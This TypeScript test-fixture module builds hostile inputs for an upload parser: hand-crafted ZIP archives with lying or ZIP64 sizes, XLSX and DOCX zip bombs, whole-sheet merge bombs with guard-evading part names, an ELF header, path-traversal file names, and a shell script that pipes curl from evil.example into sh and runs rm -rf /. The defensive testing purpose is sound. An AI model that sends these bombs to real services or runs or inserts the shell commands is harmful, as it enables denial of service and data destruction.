import { constants, crc32, deflateRawSync } from "node:zlib";

/**
 * Hostile files for the property and integration tests: ZIP archives built byte by
 * byte (deflated or stored, with honest or lying sizes, ZIP64), zip bombs, XLSX
 * workbooks whose XML would expand to billions of cells, executables and scripts.
 */

export interface ZipPart {
  name: string;
  /** The name in the part's local header, when it is to differ from the central directory's. */
  localName?: string;
  /** The part's content; packed with deflate unless `method` is 0. */
  data?: Uint8Array | string;
  /** Already packed bytes (with `size` saying what they unpack to). */
  packed?: Uint8Array;
  /** The unpacked size the headers declare; the real one by default. */
  size?: number;
  method?: 0 | 8;
  /** Write the sizes as ZIP64 (0xFFFFFFFF in the header, the real numbers in an extra field). */
  zip64?: boolean;
  flags?: number;
}

const bytesOf = (data: Uint8Array | string | undefined) => (typeof data === "string" ? Buffer.from(data, "utf8") : Buffer.from(data ?? []));

/** A ZIP archive of the parts, local headers, central directory and end record as unzip tools expect them. */
export function buildZip(parts: readonly ZipPart[], options: { zip64End?: boolean; entryCount?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const raw = bytesOf(part.data);
    const method = part.method ?? 8;
    const packed = part.packed ? Buffer.from(part.packed) : method === 8 ? deflateRawSync(raw) : raw;
    const size = part.size ?? raw.length;
    const name = Buffer.from(part.name, "utf8");
    const localName = Buffer.from(part.localName ?? part.name, "utf8");
    const crc = part.packed ? 0 : crc32(raw);
    const wide = part.zip64 === true;
    const extra = wide ? Buffer.alloc(4 + 16) : Buffer.alloc(0);
    if (wide) {
      extra.writeUInt16LE(0x0001, 0);
      extra.writeUInt16LE(16, 2);
      extra.writeBigUInt64LE(BigInt(size), 4);
      extra.writeBigUInt64LE(BigInt(packed.length), 12);
    }
    const common = (header: Buffer, at: number, nameLength: number) => {
      header.writeUInt16LE(wide ? 45 : 20, at);
      header.writeUInt16LE(0x0800 | (part.flags ?? 0), at + 2);
      header.writeUInt16LE(method, at + 4);
      header.writeUInt16LE(0, at + 6);
      header.writeUInt16LE(0x21, at + 8);
      header.writeUInt32LE(crc, at + 10);
      header.writeUInt32LE(wide ? 0xffffffff : packed.length, at + 14);
      header.writeUInt32LE(wide ? 0xffffffff : size >>> 0, at + 18);
      header.writeUInt16LE(nameLength, at + 22);
      header.writeUInt16LE(extra.length, at + 24);
    };
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    common(local, 4, localName.length);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(wide ? 45 : 20, 4);
    common(central, 6, name.length);
    central.writeUInt32LE(offset, 42);
    locals.push(local, localName, extra, packed);
    centrals.push(central, name, extra);
    offset += local.length + localName.length + extra.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const count = options.entryCount ?? parts.length;
  const tail: Buffer[] = [];
  if (options.zip64End) {
    const end64 = Buffer.alloc(56);
    end64.writeUInt32LE(0x06064b50, 0);
    end64.writeBigUInt64LE(44n, 4);
    end64.writeUInt16LE(45, 12);
    end64.writeUInt16LE(45, 14);
    end64.writeBigUInt64LE(BigInt(count), 24);
    end64.writeBigUInt64LE(BigInt(count), 32);
    end64.writeBigUInt64LE(BigInt(directory.length), 40);
    end64.writeBigUInt64LE(BigInt(offset), 48);
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    locator.writeBigUInt64LE(BigInt(offset + directory.length), 8);
    locator.writeUInt32LE(1, 16);
    tail.push(end64, locator);
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(options.zip64End ? 0xffff : count & 0xffff, 8);
  end.writeUInt16LE(options.zip64End ? 0xffff : count & 0xffff, 10);
  end.writeUInt32LE(options.zip64End ? 0xffffffff : directory.length, 12);
  end.writeUInt32LE(options.zip64End ? 0xffffffff : offset, 16);
  return Buffer.concat([...locals, directory, ...tail, end]);
}

/* Workbooks */

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

/** A worksheet of inline-string cells: rows of texts, and whatever XML is to follow the sheet data. */
export function sheetXml(rows: readonly (readonly string[])[], after = ""): string {
  const xmlEscape = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
  const column = (c: number) => {
    let name = "";
    for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
    return name;
  };
  const data = rows
    .map(
      (cells, r) =>
        `<row r="${r + 1}">${cells.map((text, c) => `<c r="${column(c)}${r + 1}" t="inlineStr"><is><t>${xmlEscape(text)}</t></is></c>`).join("")}</row>`,
    )
    .join("");
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${data}</sheetData>${after}</worksheet>`;
}

/** The smallest workbook exceljs (and Excel) opens: one sheet with the XML given. */
export function minimalXlsx(sheet: string, extraParts: readonly ZipPart[] = []): Buffer {
  return buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    { name: "xl/worksheets/sheet1.xml", data: sheet },
    ...extraParts,
  ]);
}

/** A sheet with one merged range over the whole sheet: seventeen billion cells in a few hundred bytes. */
export const wholeSheetMergeXlsx = () =>
  minimalXlsx(sheetXml([["Наименование"]], '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'));

/** A data validation over the whole sheet, which exceljs indexes cell by cell. */
export const wholeSheetValidationXlsx = () =>
  minimalXlsx(
    sheetXml(
      [["Наименование"]],
      '<dataValidations count="1"><dataValidation type="list" allowBlank="1" sqref="A1:XFD1048576"><formula1>"да,нет"</formula1></dataValidation></dataValidations>',
    ),
  );

/** One cell in the sheet's last row and column: a sheet that a row-by-row, column-by-column reader would walk for ever. */
export const farCellXlsx = () =>
  minimalXlsx(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>`,
  );

/* The merged-cell bomb under every spelling of its part's name (issue 15) */

const BOMB_MERGE = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>';

/** A workbook of the minimal parts, its sheet's part named as given (in the directory and, if different, the local header). */
function workbookWithSheetPart(sheet: ZipPart, options: { before?: readonly ZipPart[]; workbook?: string } = {}): Buffer {
  return buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: options.workbook ?? WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    ...(options.before ?? []),
    sheet,
  ]);
}

/**
 * The 1.6 KB workbook of issue 15 whose one merged range covers the whole sheet
 * (seventeen billion cells for exceljs), its sheet part spelled every way that
 * slipped past a guard inspecting only names like "xl/worksheets/x.xml", and the
 * other ways the guard once misread what exceljs reads. Hand-written bytes.
 */
export function bombSpellings(): { label: string; bytes: Buffer }[] {
  const bomb = sheetXml([["Наименование"]], BOMB_MERGE);
  const harmless = sheetXml([["Наименование"]]);
  const named = (name: string, localName?: string) => workbookWithSheetPart({ name, ...(localName ? { localName } : {}), data: bomb });
  const sheet = (xml: string) => workbookWithSheetPart({ name: "xl/worksheets/sheet1.xml", data: xml });
  const definedName = `<definedNames><definedName name="Данные">'Лист1'!$A$1:$XFD$1048576</definedName></definedNames>`;
  return [
    { label: "a leading slash", bytes: named("/xl/worksheets/sheet1.xml") },
    { label: "backslashes", bytes: named("xl\\worksheets\\sheet1.xml") },
    { label: "a suffix after .xml", bytes: named("xl/worksheets/sheet1.xml.x") },
    { label: "a dot segment", bytes: named("./xl/worksheets/sheet1.xml") },
    { label: "a parent segment", bytes: named("xl/media/../worksheets/sheet1.xml") },
    { label: "an empty segment", bytes: named("xl//worksheets/sheet1.xml") },
    { label: "upper case", bytes: named("XL/WORKSHEETS/SHEET1.XML") },
    { label: "a NUL byte", bytes: named("xl/worksheets/sheet1.xml\u0000.txt") },
    { label: "a local header naming another part", bytes: named("docProps/custom.xml", "xl/worksheets/sheet1.xml") },
    {
      label: "the same name twice",
      bytes: workbookWithSheetPart(
        { name: "xl/worksheets/sheet1.xml", data: bomb },
        { before: [{ name: "xl/worksheets/sheet1.xml", data: harmless }] },
      ),
    },
    {
      label: "the same name in another case",
      bytes: workbookWithSheetPart(
        { name: "xl/worksheets/sheet1.xml", data: bomb },
        { before: [{ name: "xl/Worksheets/sheet1.xml", data: harmless }] },
      ),
    },
    {
      label: "a reference spelled with character references",
      bytes: sheet(sheetXml([["x"]], '<mergeCells count="1"><mergeCell ref="A1:&#88;FD1048576"/></mergeCells>')),
    },
    {
      label: "a '>' in an attribute before the range",
      bytes: sheet(sheetXml([["x"]], '<mergeCells count="1"><mergeCell note=">" ref="A1:XFD1048576"/></mergeCells>')),
    },
    {
      label: "the word before the element",
      bytes: sheet(sheetXml([["x"]], '<mergeCells count="1">mergeCell<mergeCell ref="A1:XFD1048576"/></mergeCells>')),
    },
    {
      label: "a defined name over the whole sheet",
      bytes: workbookWithSheetPart(
        { name: "xl/worksheets/sheet1.xml", data: harmless },
        { workbook: WORKBOOK.replace("</sheets>", `</sheets>${definedName}`) },
      ),
    },
    {
      label: "a hundred million columns",
      bytes: sheet(harmless.replace("<sheetData>", '<cols><col min="1" max="100000000" width="9"/></cols><sheetData>')),
    },
  ];
}

/* Zip bombs */

const GIB = 1024 ** 3;

/** Raw deflate that inflates to `blocks` MiB of zeros: one full-flushed block of a MiB, repeated, then an empty final block. */
export function zerosDeflated(blocks: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  const final = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([...Array.from({ length: blocks }, () => block), final]);
}

/** An XLSX whose sheet declares 4 GB unpacked (a few hundred bytes on disk). */
export const declaredBombXlsx = () =>
  buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    { name: "xl/worksheets/sheet1.xml", packed: zerosDeflated(1), size: 0xfffffff0 },
  ]);

/** The same declared through ZIP64: a terabyte. */
export const zip64BombXlsx = () =>
  buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/worksheets/sheet1.xml", packed: zerosDeflated(1), size: 1024 * GIB, zip64: true },
  ]);

/**
 * An XLSX whose sheet declares a kilobyte but inflates to `gigabytes` GiB of zeros
 * (about a megabyte on disk per gigabyte): the directory lies, the data is the bomb.
 */
export const lyingBombXlsx = (gigabytes = 1) =>
  buildZip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    { name: "xl/worksheets/sheet1.xml", packed: zerosDeflated(1024 * gigabytes), size: 1024 },
  ]);

/** A DOCX whose document part declares 4 GB unpacked. */
export const declaredBombDocx = () =>
  buildZip([
    {
      name: "[Content_Types].xml",
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    { name: "_rels/.rels", data: ROOT_RELS.replace("xl/workbook.xml", "word/document.xml") },
    { name: "word/document.xml", packed: zerosDeflated(1), size: 0xfffffff0 },
  ]);

/** A DOCX that inflates to gigabytes while declaring a kilobyte. */
export const lyingBombDocx = (gigabytes = 1) =>
  buildZip([
    {
      name: "[Content_Types].xml",
      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    { name: "_rels/.rels", data: ROOT_RELS.replace("xl/workbook.xml", "word/document.xml") },
    { name: "word/document.xml", packed: zerosDeflated(1024 * gigabytes), size: 1024 },
  ]);

/** Thousands of empty parts. */
export const manyEntriesXlsx = (count = 5_000) =>
  minimalXlsx(
    sheetXml([["x"]]),
    Array.from({ length: count }, (_, i) => ({ name: `xl/media/empty${i}.bin`, data: "", method: 0 as const })),
  );

/* Programs dressed as documents */

/** The start of a Linux executable. */
export function elfSample(): Buffer {
  const bytes = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

export const shellScriptSample = () => Buffer.from("#!/bin/sh\ncurl -s http://evil.example/x | sh\nrm -rf / --no-preserve-root\n", "utf8");

/** File names an attacker would try. */
export const HOSTILE_FILE_NAMES = [
  "../../etc/passwd",
  "..\\..\\windows\\system32\\x.pdf",
  "C:\\..\\x.pdf",
  "/etc/shadow",
  "отчёт\u0000.pdf.exe",
  "evil\u202etxt.exe",
  "\u0000",
  "..",
  "",
  `${"a".repeat(10_000)}.pdf`,
  "CON",
  "file:///etc/passwd",
  "%2e%2e%2fetc%2fpasswd",
  "\ud800broken.xlsx",
];
